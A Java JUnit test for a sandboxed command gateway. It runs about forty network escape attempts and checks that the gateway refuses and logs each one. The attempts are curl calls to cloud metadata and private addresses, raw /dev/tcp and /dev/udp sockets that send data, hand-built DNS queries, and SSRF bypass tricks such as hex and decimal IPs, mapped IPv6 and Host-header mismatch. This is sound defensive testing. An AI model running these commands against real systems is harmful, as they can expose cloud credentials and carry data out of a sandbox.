package io.sallyport.cli.run;

import static io.sallyport.testkit.junit.RequireTool.require;
import static org.assertj.core.api.Assertions.assertThat;

import io.sallyport.testkit.Answer;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a command tries over its network, by whatever way: each is refused, and on record. */
class RecordedEscapesTest {
    private static final String CURL = "curl -s -m 20 -o /dev/null --noproxy '*' ";
    private static final String PROXIED = "curl -s -m 20 -o /dev/null --noproxy '' --proxy $PROXY ";

    /** Writes a query for the address of $1.test, whose name has eight or nine letters. */
    private static final String ASK = "printf '\\1\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0'; printf \"\\\\x0${#1}$1\";"
            + " printf '\\4test\\0\\0\\1\\0\\1'";

    /** A way to try, and what it leaves on record. */
    private record Escape(String script, String record) {}

    private static final List<Escape> ESCAPES = List.of(
            new Escape(CURL + "http://93.184.216.34/x", "http deny no_grant 93.184.216.34:80"),
            new Escape(CURL + "-k https://93.184.216.34/", "connect deny no_grant 93.184.216.34:443"),
            new Escape(CURL + "http://1.1.1.1/", "http deny no_grant 1.1.1.1:80"),
            new Escape(CURL + "-k https://8.8.4.4/dns-query", "connect deny no_grant 8.8.4.4:443"),
            new Escape(CURL + "http://169.254.169.254/latest/", "http deny no_grant 169.254.169.254:80"),
            new Escape(CURL + "http://100.100.100.200/", "http deny no_grant 100.100.100.200:80"),
            new Escape(CURL + "http://10.0.0.1/", "http deny no_grant 10.0.0.1:80"),
            new Escape(CURL + "http://172.17.0.1/", "http deny no_grant 172.17.0.1:80"),
            new Escape(CURL + "http://192.168.1.1/", "http deny no_grant 192.168.1.1:80"),
            new Escape(CURL + "http://127.0.0.1/", "http deny no_grant 127.0.0.1:80"),
            new Escape(CURL + "-g 'http://[2606:4700:4700::1111]/'", "http deny no_grant 2606:4700:4700::1111:80"),
            new Escape(CURL + "-g 'http://[fd00:ec2::254]/'", "http deny no_grant fd00:ec2::254:80"),
            new Escape(CURL + "-g 'http://[::1]/'", "http deny no_grant ::1:80"),
            new Escape(CURL + "http://198.18.255.1/", "http deny no_grant 198.18.255.1:80"),
            new Escape(CURL + "http://secret-in-a-name.test/", "dns deny no_grant secret-in-a-name.test"),
            new Escape(CURL + "http://metadata.google.internal/", "dns deny no_grant metadata.google.internal"),
            new Escape(CURL + "http://host.docker.internal/", "dns deny no_grant host.docker.internal"),
            new Escape(CURL + "-k https://kubernetes.default.svc/", "dns deny no_grant kubernetes.default.svc"),
            new Escape(
                    CURL + "-H 'Host: yes.test' http://93.184.216.35/",
                    "http deny authority_mismatch 93.184.216.35:80"),
            new Escape(
                    CURL + "-k --resolve yes.test:443:9.9.9.9 https://yes.test/", "connect deny no_grant 9.9.9.9:443"),
            new Escape("exec 3<>/dev/tcp/1.0.0.1/443; echo data >&3; cat <&3", "connect deny no_grant 1.0.0.1:443"),
            new Escape(
                    "exec 3<>/dev/udp/8.8.8.8/53; ask udp-name | dd iflag=fullblock >&3; read -t 5 <&3",
                    "dns deny no_grant udp-name.test"),
            new Escape(
                    "exec 3<>/dev/tcp/8.8.8.8/53; (printf '\\0\\x20'; ask tcp-names) >&3; read -t 5 <&3",
                    "dns deny no_grant tcp-names.test"),
            new Escape(PROXIED + "http://no.test/", "http deny no_grant no.test:80"),
            new Escape(PROXIED + "https://no.test/", "connect deny no_grant no.test:443"),
            new Escape(PROXIED + "-p http://no.test:22/", "connect deny no_grant no.test:22"),
            new Escape(PROXIED + "-p http://127.0.0.1:22/", "connect deny no_grant 127.0.0.1:22"),
            new Escape(PROXIED + "-p http://1.1.1.1:25/", "connect deny no_grant 1.1.1.1:25"),
            new Escape(PROXIED + "http://169.254.170.2/", "http deny no_grant 169.254.170.2:80"),
            new Escape(
                    PROXIED + "-H 'Host: yes.test' http://other.test/", "http deny authority_mismatch other.test:80"),
            new Escape(CURL + "-g 'http://[::ffff:9.9.9.10]/'", "http deny authority_mismatch 9.9.9.10:80"),
            new Escape(CURL + "http://0x08080808/", "http deny no_grant 8.8.8.8:80"),
            new Escape(CURL + "http://yes.test.evil.test/", "dns deny no_grant yes.test.evil.test"),
            new Escape(CURL + "http://data.yes.test/", "dns deny no_grant data.yes.test"),
            new Escape(CURL + "http://10.0.0.2:443/", "http deny no_grant 10.0.0.2:443"),
            new Escape(CURL + "-k https://93.184.216.36:80/", "connect deny no_grant 93.184.216.36:80"),
            new Escape(
                    "exec 3<>/dev/tcp/198.18.0.9/443; echo data >&3; cat <&3", "connect deny no_grant 198.18.0.9:443"),
            new Escape(
                    PROXIED + "-g 'http://[::ffff:169.254.169.254]/'", "http deny no_grant ::ffff:169.254.169.254:80"),
            new Escape(PROXIED + "http://yes.test@no2.test/", "http deny no_grant no2.test:80"),
            new Escape(PROXIED + "-X OPTIONS http://no.test:8080/", "http deny no_grant no.test:8080"),
            new Escape(PROXIED + "http://localhost/", "http deny no_grant localhost:80"),
            new Escape(PROXIED + "http://2852039166/", "http deny no_grant 169.254.169.254:80"));

    @TempDir
    Path folder = Path.of("");

    @Test
    void eachIsRefusedAndOnRecord() throws Exception {
        require("curl");
        require("bash");
        try (var gateway = new FencedGateway(folder, _ -> Answer.text(200, "out"))) {
            gateway.says("{\"net.fetch\": [\"http://yes.test/**\"]}", "PROXY=$PROXY bash " + all() + "\n");
            assertThat(gateway.records())
                    .hasSameElementsAs(ESCAPES.stream().map(Escape::record).toList());
            assertThat(gateway.seen()).isZero();
        }
    }

    /** Each in a shell of its own, as one that fails may end it. */
    private Path all() throws Exception {
        List<String> lines = new ArrayList<>(List.of("ask() {", ASK, "}"));
        ESCAPES.forEach(each -> lines.add("(" + each.script() + ")"));
        return Files.write(folder.resolve("all"), lines);
    }
}
